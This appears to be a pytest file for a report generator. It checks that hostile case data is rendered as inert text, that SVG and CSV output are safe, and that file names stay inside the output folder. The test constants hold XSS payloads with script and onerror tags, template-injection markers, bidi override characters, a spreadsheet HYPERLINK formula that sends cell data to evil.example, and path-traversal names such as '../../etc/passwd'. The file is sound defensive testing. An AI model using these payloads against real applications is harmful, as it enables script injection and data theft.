"""A case with hostile text: shown as text, kept to its place, and no wider than a phone."""

import csv
import io
import json
import re

import pytest
from bs4 import BeautifulSoup

from pactwork.brief import write_brief
from pactwork.brief.findings import gather_findings
from pactwork.brief.writing import file_name, list_drawings
from pactwork.facts.case import load_case
from pactwork.facts.new import write_table
from pactwork.facts.schema import standard

EVIL = "<script>alert(1)</script></style></svg>]]><img src=x onerror=alert(2)> \"q\" 's' & {{ 7 * 7 }} {% raw %} \u202eflow\u202c \u2066z עברית"
LONG = "W" * 400
FORMULA = '=HYPERLINK("https://evil.example/?"&A1,"x")'
SHOWN = "<script>alert(1)</script></style></svg>]]><img src=x onerror=alert(2)>"
IDS = ("source_id", "actor_id", "system_id", "category", "subgroup", "population", "from_port", "to_port")
"""Columns of text by which rows are found, sorted or put together: what they say is no free text."""
MORE = {
    "events": "event_id,date,kind,title,domain,level,actors,source_id,locator,note\n"
    "e1,2024-03,visit,T,dialogue,political,aland;bland,paper,p,n\ne2,2024-05,exercise,T,dialogue,military,aland;bland,paper,p,n\n",
    "formats": "format_id,name,domain,level,members,state,summary,source_id,locator\n"
    "f,N,dialogue,political,aland;bland,active,S,paper,p\n",
    "elections": "election_id,partner,office,date,stakes,source_id,locator\nx,aland,O,2025-05,S,paper,p\n",
    "commitments": "commitment_id,as_of,instrument_id,system_id,kind,domain,level,summary,promised_by,promised_to,quantity,"
    "state,source_id,locator\nc,2024,deal,t1,local_production,local_production,industrial,S,bland,aland,9,agreed,paper,p\n",
    "recommendations": "recommendation_id,origin,text,addressee,domain,level,state,source_id,locator,note\n"
    "r,paper,T,aland,cyber,expert,under way,paper,p,n\ns,ours,T,aland,cyber,expert,recommended,paper,p,n\n",
    "claims": "claim_id,source_id,locator,kind,text,standing,note\nc1,paper,p,assessment,T,contested,N\n",
    "threats": "perceiver,threat,label,likelihood,likelihood_low,likelihood_high,severity,severity_low,severity_high,as_of,"
    "basis,source_id,locator,rationale\naland,x,L,80,70,90,90,80,95,2024-10,judgement,paper,p,R\n"
    "bland,x,L,20,10,30,90,80,95,2024-10,judgement,paper,p,R\n",
    "positions": "issue,actor,position,low,high,influence,salience,scale,as_of,basis,source_id,locator,rationale\n"
    "pl-x,aland,20,0,100,90,90,S,2024-06,judgement,paper,p,R\npl-x,bland,90,0,100,40,50,S,2024-06,judgement,paper,p,R\n",
}


def poison(tables, text):
    """Return tables with a text in every column of free text, one that the rows do not have included."""
    found = {}
    for name, held in tables.items():
        declaration = standard().table(name)
        free = [one.name for one in declaration.fields
                if one.type == "string" and not (one.categories or one.constraints.pattern or one.form or one.references)
                and one.name not in IDS and one.name not in ("url", "option", "pollster", "mode")]  # fmt: skip
        rows = [dict(row) for row in csv.DictReader(io.StringIO(held))]
        for at, row in enumerate(rows):
            row |= dict.fromkeys(free, text)
            if name == "polls":
                row |= {"option": f"{text} {at}", "pollster": text, "mode": text}
        columns = [one for one in declaration.columns if any(one in row for row in rows)]
        stream = io.StringIO()
        writer = csv.DictWriter(stream, columns, restval="", lineterminator="\n")
        writer.writeheader()
        writer.writerows(rows)
        found[name] = stream.getvalue()
    return found


def hostile_case(make_case, tiny, text, folder="case"):
    """Return the folder of a case whose every free word is a text: of tables, of the case, and of an author."""
    quoted = json.dumps(text[:300], ensure_ascii=False)
    about = (
        f'name = "tiny"\ntitle = {quoted}\nsummary = {quoted}\npartnership = "a-b"\nas_of = "2024-10-31"\n'
        f'[[partners]]\ncountry = "PL"\nname = {quoted}\nactor = "aland"\nrole = "buyer"\n'
        f'[[partners]]\ncountry = "KR"\nname = {quoted}\nactor = "bland"\nrole = "supplier"\n'
    )
    root = make_case(folder, case_toml=about, **poison({**tiny, **MORE}, text))
    (root / "narrative").mkdir()
    (root / "narrative/standing.md").write_text(
        f"Words: `{text}` {text.replace('{', '(').replace('}', ')')}\n", "utf-8"
    )
    return root


@pytest.fixture(scope="module")
def written(tmp_path_factory):
    """The files of a hostile case's brief."""
    root = tmp_path_factory.mktemp("hostile")

    def make(folder, case_toml, **tables):
        case = root / folder
        (case / "facts").mkdir(parents=True)
        (case / "case.toml").write_text(case_toml, "utf-8")
        for name, text in tables.items():
            (case / "facts" / f"{name}.csv").write_text(text, "utf-8")
        return case

    return make, root


@pytest.fixture(scope="module")
def evil(written, request):
    make, root = written
    tables = request.getfixturevalue("tiny")
    made = write_brief(load_case(hostile_case(make, tables, f"{EVIL} {LONG}")), root / "out")
    return made, made.path.read_text("utf-8")


def test_every_free_word_of_a_case_is_text_on_the_page(evil):
    text = evil[1]
    page = BeautifulSoup(text, "html.parser")
    assert not page.select("script, img, iframe, object, form, [onerror], [onload]")
    assert text.count("<style>") == text.count("</style>") == 1
    assert "{% raw %}" in page.get_text()
    assert "49" not in re.findall(r"\b49\b", page.get_text())
    for section in ("standing", "contested", "cooperation", "dialogue", "threats", "stakeholders", "industry", "opinion",
                    "sources", "answer", "figures"):  # fmt: skip
        assert SHOWN in page.select_one(f"#{section}").get_text(), section
    assert not re.search("[\u202a-\u202e\u2066-\u2069\u200e\u200f]", text)


def test_text_that_runs_the_other_way_is_kept_to_its_place(evil):
    page = BeautifulSoup(evil[1], "html.parser")
    stray = [
        f"{node.parent.name} {node.parent.get('class')}: {node.strip()[:60]}"
        for node in page.body.find_all(string=re.compile("עברית"))
        if not node.find_parent(["bdi", "svg"]) and not node.find_parent(attrs={"dir": "auto"})
    ]
    assert stray == []


def test_files_of_charts_hold_no_script_and_are_well_formed(evil):
    from xml.etree import ElementTree

    pictures = [path for path in evil[0].charts if path.suffix == ".svg"]
    assert len(pictures) > 5
    for path in pictures:
        tree = ElementTree.fromstring(path.read_text("utf-8"))
        tags = {element.tag.rpartition("}")[2] for element in tree.iter()}
        assert not tags & {"script", "foreignObject", "image", "a", "use"}
        assert not [name for element in tree.iter() for name in element.attrib if name.lower().startswith("on")]


def test_brief_json_holds_no_direction_marks_in_what_the_brief_says(evil):
    held = json.loads((evil[0].path.parent / "brief.json").read_text("utf-8"))
    for text in (*held["answer"], *(one["text"] for one in held["numbers"].values())):
        assert not re.search("[\u202a-\u202e\u2066-\u2069]", str(text))


def test_a_formula_in_a_cell_is_no_formula_in_what_pactwork_writes(make_case, tiny, tmp_path):
    root = hostile_case(make_case, tiny, FORMULA)
    made = write_brief(load_case(root), tmp_path / "out")
    assert FORMULA in BeautifulSoup(made.path.read_text("utf-8"), "html.parser").get_text()
    for path in sorted((tmp_path / "out").rglob("*.csv")):
        for row in csv.reader(io.StringIO(path.read_text("utf-8-sig"))):
            assert not [cell for cell in row if re.match(r"[=+@\t\r]|-(?![\d.])", cell)], path.name
    table = standard().table("events")
    assert "\"'=HYPERLINK" in write_table(table, [{"event_id": "e", "title": FORMULA}])


NAMES = ("a.b", "a-b", "a..b", "con", "nul", "x" * 150 + "1", "x" * 150 + "2")


def test_names_of_lots_make_files_of_their_own_in_the_folder(make_case, tiny, tmp_path):
    header, row = tiny["lots"].splitlines()
    systems_header, system = tiny["systems"].splitlines()
    lots = "".join(row.replace("t1-1", name).replace(",t1,", f",{name},") + "\n" for name in NAMES)
    systems = "".join(system.replace("t1,T1,", f"{name},{name},") + "\n" for name in NAMES)
    root = make_case(lots=f"{header}\n{lots}", systems=f"{systems_header}\n{systems}", figures=None, shipments=None)
    drawings = list(list_drawings(gather_findings(load_case(root))))
    names = [file_name(one.name) for one in drawings]
    assert len({name.casefold() for name in names}) == len(drawings) > 2 * len(NAMES)
    for name in names:
        assert re.fullmatch(r"[A-Za-z0-9_-]{1,120}", name)


@pytest.mark.parametrize(
    "name", ["../../etc/passwd", "a/b", "a\\b", "..", ".", "", "C:\\x", "\x00", "ＡＢ", "-rf", "a\nb"]
)
def test_no_name_leaves_the_folder(name, tmp_path):
    made = (tmp_path / f"{file_name(name)}.svg").resolve()
    assert made.parent == tmp_path.resolve()
    assert re.fullmatch(r"[A-Za-z0-9_][A-Za-z0-9_-]*", file_name(name))


@pytest.mark.parametrize("width", [390, 1280])
def test_very_long_words_do_not_widen_the_page(evil, measure, width):
    wide, window, sticking_out = measure(evil[1], width)
    assert window == width
    assert sticking_out == []
    assert wide <= window  # less the scroll bar
